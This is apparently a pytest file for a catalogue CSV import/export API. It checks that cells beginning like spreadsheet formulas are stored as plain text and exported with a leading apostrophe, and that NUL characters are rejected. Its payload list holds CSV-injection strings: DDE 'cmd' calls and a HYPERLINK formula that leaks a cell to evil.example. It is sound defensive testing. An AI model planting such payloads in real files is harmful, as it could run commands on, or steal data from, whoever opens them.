"""Formula injection through the catalogue's CSV (docs/contracts.md "Catalogue"): a file whose cells start like
spreadsheet formulas (`=cmd|' /C calc'!A0`, `+`, `-`, `@`, a tab, a carriage return) is imported as plain text,
exactly as written; the export puts a `'` before every such cell so no spreadsheet runs it, and imports back to
the same catalogue, names starting with a `'` of their own included. A NUL character is a bad line, not a 500."""
from __future__ import annotations

import csv
import io

from tests.api.catalogue_support import PREFIX, SECURE, headers, owner, page, stored  # noqa: F401

PAYLOADS = {
    "=cmd|' /C calc'!A0": "DDE",
    "+SUM(1+1)*cmd|' /C calc'!A0": "plus",
    "-2+3+cmd|' /C calc'!A0": "minus",
    "@SUM(1+1)*cmd|' /C calc'!A0": "at",
    "\t=1+1": "tab",
    "\r=2+2": "carriage return",
    '=HYPERLINK("https://evil.example/?x="&A1,"Click")': "hyperlink",
}


def csv_file(rows: list[list[str]]) -> bytes:
    out = io.StringIO()
    csv.writer(out).writerows(rows)
    return out.getvalue().encode()


def import_file(client, headers, page, raw: bytes):
    return client.post(f"{SECURE}/{PREFIX[page.platform]}/catalogue/import/{page.external_id}", headers=headers,
                       data={"file": (io.BytesIO(raw), "catalogue.csv")}, content_type="multipart/form-data")


def exported_cells(client, headers, page) -> list[list[str]]:
    answer = client.get(f"{SECURE}/{PREFIX[page.platform]}/catalogue/export/{page.external_id}", headers=headers)
    assert answer.status_code == 200 and answer.mimetype == "text/csv"
    return list(csv.reader(io.StringIO(answer.get_data(as_text=True).lstrip("\ufeff"), newline="")))[1:]


def test_formula_cells_are_imported_as_text_and_exported_neutralised(client, headers, page):
    rows = [[f"=Cat {label}", payload.strip(), payload] for payload, label in PAYLOADS.items()]
    answer = import_file(client, headers, page, csv_file(rows))
    assert answer.status_code == 200, answer.get_json()

    # Stored as written (names trimmed, as every name is; synonyms split at `|`), never evaluated.
    assert stored(page) == {f"=Cat {label}": {payload.strip(): [" ".join(part.split()) for part in payload.split("|")]}
                            for payload, label in PAYLOADS.items()}
    cells = [cell for row in exported_cells(client, headers, page) for cell in row]
    assert len(cells) == 3 * len(PAYLOADS)
    for cell in cells:
        assert cell.startswith("'") and cell[1] in "=+-@", cell


def test_an_export_of_formula_and_apostrophe_names_imports_back_the_same(client, headers, page):
    rows = [["'=already quoted", "'Robe", "'+x|'"], ["=Robes", "=Robe", "-moins|@sac"]]
    assert import_file(client, headers, page, csv_file(rows)).status_code == 200
    before = stored(page)
    assert before == {"=already quoted": {"'Robe": ["+x", "'"]}, "=Robes": {"=Robe": ["-moins", "@sac"]}}

    exported = csv_file([["category", "product", "synonyms"], *exported_cells(client, headers, page)])
    again = import_file(client, headers, page, exported)
    assert again.status_code == 200 and again.get_json()["imported"] == {"categories": 0, "products": 0,
                                                                         "synonyms": 0}
    assert stored(page) == before


def test_a_nul_character_is_a_bad_line_and_nothing_is_imported(client, headers, page):
    answer = import_file(client, headers, page, "Robes,Robe rouge,\nSacs,Sac\x00cabas,\n".encode())
    assert answer.status_code == 422
    assert answer.get_json()["lines"] == [{"line": 2, "reason": "The product holds a NUL character",
                                           "code": "nulCharacter", "values": {"field": "product"}}]
    assert stored(page) == {}
